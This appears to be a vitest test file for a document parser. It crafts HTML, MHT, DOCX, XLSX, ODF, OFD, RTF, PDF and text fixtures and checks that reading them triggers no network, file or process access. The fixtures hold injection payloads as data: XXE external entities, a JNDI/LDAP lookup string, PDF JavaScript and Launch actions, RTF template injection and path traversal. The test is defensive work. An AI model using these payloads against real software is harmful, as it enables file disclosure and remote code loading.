import { execFile } from "node:child_process";
import { mkdtemp, readdir, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";

import { strToU8, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

const run = promisify(execFile);
const FAR = "http://ziping.invalid/x";
const NEAR = "file:///etc/hostname";
const LARGEST = 400_000;
const TIME_MS = 300_000;

const W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const DOCTYPE = `<!DOCTYPE x [<!ENTITY e SYSTEM "${NEAR}"><!ENTITY % p SYSTEM "${FAR}"> %p;]>`;

function relations(part: string, kinds: readonly string[]): Readonly<Record<string, Uint8Array>> {
  const each = kinds.flatMap((kind, index) =>
    [FAR, NEAR, "\\\\ziping.invalid\\share\\x.dotm"].map(
      (target, number) =>
        `<Relationship Id="r${index}${number}" Type="${OFFICE}/${kind}" Target="${target}" TargetMode="External"/>`,
    ),
  );
  return { [part]: strToU8(`<Relationships xmlns="${RELATIONS}">${each.join("")}</Relationships>`) };
}

function zipped(parts: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
  const entries = Object.entries(parts).map(([name, part]) => [name, typeof part === "string" ? strToU8(part) : part]);
  return zipSync(Object.fromEntries(entries) as Record<string, Uint8Array>);
}

const PDF_ACTION = `<< /S /JavaScript /JS (app.launchURL\\("${FAR}"\\)) >>`;
const PDF = `%PDF-1.7
1 0 obj
<< /Type /Catalog /Pages 2 0 R /OpenAction ${PDF_ACTION} /AA << /WC ${PDF_ACTION} >> /URI << /Base (${FAR}) >> >>
endobj
2 0 obj
<< /Type /Pages /Kids [3 0 R] /Count 1 >>
endobj
3 0 obj
<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R /AA << /O << /S /Launch /F (/bin/true) >> >>
/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${FAR}) >> >>] >>
endobj
4 0 obj
<< /Length 0 /F << /FS /URL /F (${FAR}) >> >>
stream
endstream
endobj
5 0 obj
<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontDescriptor << /Type /FontDescriptor /FontName /Helvetica /FontFile << /F (${FAR}) >> >> >>
endobj
trailer
<< /Root 1 0 R >>
`;

/** Files that ask for something outside themselves, by name. */
const ASKING: Readonly<Record<string, string | Uint8Array>> = {
  "far.html": `<!DOCTYPE html><html><head><base href="${FAR}"><link rel="stylesheet" href="${FAR}"><style>@import "${FAR}"; p { background: url(${NEAR}) }</style>
<script src="${FAR}"></script><script>fetch("${FAR}")</script><meta http-equiv="refresh" content="0;url=${FAR}"></head>
<body onload="fetch('${FAR}')"><img src="${FAR}"><iframe src="${NEAR}"></iframe><object data="${FAR}"></object><table><tr><td>一</td></tr></table></body></html>`,
  "far.mht": `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; start="<far>"\r\nContent-Location: ${FAR}\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: ${FAR}\r\n\r\n<html><img src="cid:x"><link rel=stylesheet href="${NEAR}"><p>一、甲</p></html>\r\n--b--\r\n`,
  "far.docx": zipped({
    "word/document.xml": `<?xml version="1.0"?>${DOCTYPE}<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "${NEAR}"</w:instrText><w:fldChar w:fldCharType="end"/><w:t>一&e;</w:t></w:r></w:p></w:body></w:document>`,
    ...relations("word/_rels/document.xml.rels", ["styles", "numbering", "attachedTemplate", "image", "aFChunk", "subDocument"]),
    ...relations("_rels/.rels", ["officeDocument"]),
  }),
  "far.xlsx": zipped({
    "[Content_Types].xml": `<Types/>`,
    "xl/workbook.xml": `${DOCTYPE}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets><sheet name="一" sheetId="1" r:id="r00"/></sheets></workbook>`,
    ...relations("xl/_rels/workbook.xml.rels", ["worksheet", "sharedStrings", "externalLink", "styles"]),
  }),
  "far.fodt": `<?xml version="1.0"?>${DOCTYPE}<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:section><text:section-source xlink:href="${NEAR}"/></text:section><text:p>一</text:p></office:text></office:body></office:document>`,
  "far.ofd": zipped({
    "OFD.xml": `${DOCTYPE}<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>${FAR}</ofd:DocRoot></ofd:DocBody><ofd:DocBody><ofd:DocRoot>../../../etc/hostname</ofd:DocRoot></ofd:DocBody></ofd:OFD>`,
  }),
  "far.rtf": `{\\rtf1\\ansi{\\*\\template ${FAR}}{\\field{\\*\\fldinst INCLUDEPICTURE "${FAR}" \\\\d}{\\fldrslt a}}{\\field{\\*\\fldinst INCLUDETEXT "/etc/hostname"}{\\fldrslt b}}{\\object\\objautlink{\\*\\objclass Word.Document}}\\par}`,
  "far.pdf": PDF,
  "far.txt": `一、甲\n${FAR}\n\${jndi:ldap://ziping.invalid/a}\n`,
};

let folder = "";
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "ziping-out-"));
  for (const [name, content] of Object.entries(ASKING)) await writeFile(join(folder, name), content);
});
afterAll(() => rm(folder, { recursive: true }));

interface Watched {
  readonly outcomes: Readonly<Record<string, string>>;
  readonly tried: readonly string[];
}

async function watched(...names: readonly string[]): Promise<Watched> {
  const scripts = ["--import", "./test/support/watch-ways-out.mjs", "test/support/no-way-out.mjs"];
  const { stdout, stderr } = await run(process.execPath, [...scripts, ...names], { maxBuffer: 10_000_000 });
  const tried = [...stderr.matchAll(/^tried: (?<way>.*)$/gmu)].map(({ groups }) => groups?.["way"] ?? "");
  return { outcomes: JSON.parse(stdout) as Watched["outcomes"], tried };
}

/** Fixtures of every format. */
async function fixtures(): Promise<readonly string[]> {
  const entries = await readdir("fixtures", { withFileTypes: true, recursive: true });
  const files = entries.filter((entry) => entry.isFile() && !/\.(?:json|md|mjs)$/u.test(entry.name));
  const paths = files.map((entry) => join(entry.parentPath, entry.name));
  const sizes = await Promise.all(paths.map((path) => stat(path)));
  return paths.filter((_, index) => (sizes[index]?.size ?? 0) < LARGEST);
}

describe("reading", { timeout: TIME_MS }, () => {
  it("files that ask for a network, another file or a program gets none", async () => {
    const { outcomes, tried } = await watched(...Object.keys(ASKING).map((name) => join(folder, name)));
    expect(tried).toEqual([]);
    expect(Object.values(outcomes)).toHaveLength(Object.keys(ASKING).length);
    expect(Object.values(outcomes)).not.toContain(undefined);
  });

  it("files of every format stays within the process", async () => {
    const { outcomes, tried } = await watched(...(await fixtures()));
    expect(tried).toEqual([]);
    const formats = ["pdf", "docx", "xlsx", "ofd", "odt", "doc", "rtf", "html", "txt"];
    expect(Object.values(outcomes)).toEqual(expect.arrayContaining(formats));
  });

  it("would be seen to go out of it", async () => {
    const { tried } = await watched("--try");
    const ways = ["fetch", "connect", "get", "lookup", "spawn", "execSync", "readFile", "readFile", "openSync"];
    expect(tried.map((way) => way.split(" ")[0])).toEqual(ways);
  });
});
